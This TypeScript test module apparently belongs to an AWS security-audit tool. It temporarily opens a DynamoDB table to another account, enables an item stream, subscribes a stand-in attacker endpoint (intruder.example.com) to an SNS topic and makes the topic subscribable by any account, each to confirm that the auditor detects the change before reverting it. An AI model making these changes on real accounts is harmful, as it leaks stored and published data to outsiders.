import { ABROAD, type Argv, by, document } from './by-hand';
import { ACCOUNT, type Breakage, type LiveTarget } from './live-target';

const TABLE = ['--table-name', 'data-dev-visits'];
const TABLE_ARN = `arn:aws:dynamodb:us-east-1:${ACCOUNT}:table/data-dev-visits`;
const NEWS = `arn:aws:sns:us-east-1:${ACCOUNT}:data-dev-news`;
const ENDPOINT = 'https://intruder.example.com/news';

const tablePolicy = (policy: string): Argv => [
  ...['dynamodb', 'put-resource-policy', '--resource-arn', TABLE_ARN, '--policy', policy],
];
const topicPolicy = (policy: string): Argv => [
  ...['sns', 'set-topic-attributes', '--topic-arn', NEWS, '--attribute-name', 'Policy', '--attribute-value', policy],
];
const stream = (...more: readonly string[]): Argv => [
  ...['dynamodb', 'update-table', ...TABLE, '--stream-specification', more.join(',')],
];

/** What guards a table of the release, as it stands. */
const policyOfTable = async (target: LiveTarget): Promise<string> => {
  const { Policy: policy } = await target.call('dynamodb', 'GetResourcePolicy', { ResourceArn: TABLE_ARN });
  return String(policy);
};

const and = (policy: string, statement: object): string => {
  const { Statement: statements } = JSON.parse(policy) as { readonly Statement: readonly object[] };
  return document(...statements, statement);
};

/** Tables and topics that a developer has added, opened and told of by hand; only `npm run intruder` tries them. */
export const TABLES_AND_TOPICS: readonly Breakage[] = [
  {
    check: 'tables-guarded',
    by: "a table that another account may read by the table's own policy",
    says: /its policy lets everybody of account 333333333333 in \(dynamodb:Query\)/,
    how: async (target) => {
      const before = await policyOfTable(target);
      const Principal = { AWS: `arn:aws:iam::${ABROAD}:root` };
      const opened = { Effect: 'Allow', Principal, Action: 'dynamodb:Query', Resource: `${TABLE_ARN}/index/*` };
      return by([tablePolicy(and(before, opened))], [tablePolicy(before)])(target);
    },
  },
  {
    check: 'tables-guarded',
    by: 'a table whose items flow into a stream',
    says: /what is written to it flows into a stream \(NEW_IMAGE\), which no release said/,
    how: by([stream('StreamEnabled=true', 'StreamViewType=NEW_IMAGE')], [stream('StreamEnabled=false')]),
  },
  {
    check: 'topics-guarded',
    by: 'an https subscriber of a topic of the workload',
    says: /it tells https:https:\/\/intruder\.example\.com\/news what it carries, and no release subscribed that/,
    how: async (target) => {
      const input = { TopicArn: NEWS, Protocol: 'https', Endpoint: ENDPOINT, ReturnSubscriptionArn: true };
      const { SubscriptionArn } = await target.call('sns', 'Subscribe', input);
      return () => target.aws('sns', 'unsubscribe', '--subscription-arn', String(SubscriptionArn));
    },
  },
  {
    check: 'topics-guarded',
    by: 'a topic to which everybody may subscribe who knows a word',
    says: /its policy lets every account in \(sns:Subscribe\): sns:Endpoint keeps nobody out/,
    how: async (target) => {
      const { Attributes: attributes } = await target.call('sns', 'GetTopicAttributes', { TopicArn: NEWS });
      const { Policy: before } = attributes as { readonly Policy: string };
      const condition = { StringLike: { 'sns:Endpoint': 'https://intruder.example.com/*' } };
      const allowed = { Action: 'sns:Subscribe', Resource: NEWS, Condition: condition };
      const opened = and(before, { Effect: 'Allow', Principal: { AWS: '*' }, ...allowed });
      return by([topicPolicy(opened)], [topicPolicy(before)])(target);
    },
  },
];
